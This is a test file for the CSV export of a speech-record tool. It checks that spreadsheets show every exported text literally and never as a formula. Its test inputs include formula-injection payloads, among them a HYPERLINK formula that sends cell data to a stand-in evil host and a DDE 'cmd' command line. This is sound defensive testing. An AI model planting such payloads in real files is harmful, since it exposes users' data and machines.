/** What a spreadsheet shows of an exported table: every text as it is, and none of it a formula. */
import { mkdtempSync, readFileSync, rmSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { afterAll, beforeAll, describe, expect, it, vi } from 'vitest'
import { cellText } from '../../src/formats/csv-line.js'
import { type ExportRow, flatColumns } from '../../src/formats/export-row.js'
import type { CellKind } from '../../src/model/table-column.js'
import { looseImport, noSpreadsheet, readInSpreadsheet, type SheetCell, usualImport } from '../fixtures/spreadsheet.js'
import { toldRecord, type ToldRecord } from '../fixtures/told-record.js'
import { hearsay, records } from './run-hearsay.js'

vi.setConfig({ testTimeout: 120_000, hookTimeout: 120_000 })

/** What a page can say that a spreadsheet would act on, change, or show as something else. */
const texts = [
  '=1+1',
  '=HYPERLINK("https://evil.example/?"&A1,"Harbour")',
  "=cmd|'/c calc'!A1",
  '+1',
  '-1',
  '- a dash',
  '@SUM(A1:A9)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '  =1+1',
  '\uff1d1',
  "'=1",
  '12345678901234567890',
  '0012',
  '1e5',
  '1,234',
  '9/11',
  '19:36',
  '50%',
  '2031-04-02T09:30:00+02:00',
  '“Größe” für Übermorgen, straße',
  'שלום לכל הספינות',
  'الميناء مفتوح',
  '👩🏽‍✈️ 👍🏽 𝔘 at the quay',
  'one\r\ntwo\n\nthree\rfour',
  'a;b\tc, "d"',
  '  two  spaces  ',
  "'tis so",
  '<b>&amp; bold</b>',
  'line\u2028separated',
]

describe.skipIf(noSpreadsheet !== null)(`a table in a spreadsheet${noSpreadsheet === null ? '' : `, left out: ${noSpreadsheet}`}`, () => {
  let record: ToldRecord
  let folder: string
  let rows: readonly ExportRow[]
  let path: string

  beforeAll(async () => {
    folder = mkdtempSync(join(tmpdir(), 'hearsay sheet '))
    path = join(folder, 'all.csv')
    record = await toldRecord(
      texts.map((text, number) => ({
        text: `Page ${number}.\nSomebody said: [${text}]. Nobody else was there.`,
        told: [
          {
            source: ['Somebody'],
            cue: ['said'],
            content: [text],
            form: 'indirect',
            speakers: [{ words: 'Somebody', name: text, actor: `own:${text}` }],
            addressees: [{ name: text }],
          },
        ],
        url: `https://outlet.example/${number}`,
        publisher: text,
        title: text,
      })),
    )
    const all = ['export', '--all-versions', '--store', record.place, '-q']
    rows = records<ExportRow>((await hearsay(all, { cwd: folder })).stdout)
    await hearsay([...all, '--format', 'csv', '--out', path], { cwd: folder })
  })
  afterAll(async () => {
    rmSync(folder, { recursive: true, force: true })
    await record.close()
  })

  it('is UTF-8 with a byte order mark', () => {
    expect(readFileSync(path).subarray(0, 9)).toEqual(Buffer.from('\ufeffinput,'))
  })

  it.each([usualImport, looseImport])('has every cell as it was written and no formula, opened with %s', (importing) => {
    expect(rows.map(({ words }) => words).toSorted()).toEqual(texts.toSorted())
    const [header = [], ...sheet] = readInSpreadsheet(path, importing)
    expect(header.slice(0, flatColumns.length).map(({ text }) => text)).toEqual(flatColumns.map(({ name }) => name))
    expect(sheet).toHaveLength(rows.length)
    for (const [number, row] of rows.entries()) {
      const seen = flatColumns.map(({ name }, at) => [name, shown(sheet[number]![at]!)])
      expect(seen).toEqual(flatColumns.map(({ name }) => [name, cellText(row[name] as never).replaceAll(/\r\n?/gu, '\n')]))
      expect(flatColumns.filter(({ kind }, at) => !taken[kind].includes(sheet[number]![at]!.kind))).toEqual([])
    }
  })

  it('has numbers as numbers and days as days', () => {
    const [header = [], first = []] = readInSpreadsheet(path)
    const kinds = Object.fromEntries(header.map(({ text }, at) => [text, first[at]?.kind]))
    expect(kinds).toMatchObject({ confidence: 'float', distinctStatement: 'float', publishedAt: 'date', negated: 'boolean', content: 'string' })
  })
})

/** What a spreadsheet may take a value of each kind for. */
const taken: Readonly<Record<CellKind, readonly SheetCell['kind'][]>> = {
  json: [],
  string: ['string', 'date', 'empty'],
  spans: ['string', 'empty'],
  number: ['float'],
  integer: ['float'],
  boolean: ['boolean'],
}

/** What a cell says, truth values in small letters. */
const shown = ({ kind, text }: SheetCell): string => (kind === 'boolean' ? text.toLowerCase() : text)
